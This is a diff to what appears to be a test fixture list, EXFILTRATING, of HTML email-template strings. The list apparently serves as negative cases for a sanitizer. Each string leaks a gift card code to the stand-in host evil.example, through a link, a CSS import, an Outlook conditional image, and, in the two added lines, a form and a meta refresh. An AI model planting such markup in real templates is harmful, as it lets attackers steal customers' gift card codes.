@@ -191,6 +191,8 @@ EXFILTRATING = [
     '<p><a href="https://evil.example/redeem?c={{ gift_card.code }}">Redeem</a></p>',
     "<style>@import url(https://evil.example/{{ gift_card.code }});</style><p>{{ gift_card.code }}</p>",
     '<p>{{ gift_card.code }}</p><!--[if mso]><img src="https://evil.example/{{ gift_card.code }}"><![endif]-->',
+    '<form action="https://evil.example/"><textarea name="c">{{ gift_card.code }}</textarea><button>Redeem</button></form>',
+    '<p>{{ gift_card.code }}</p><meta http-equiv="refresh" content="0;url=https://evil.example/{{ gift_card.code }}">',
 ]
 
 
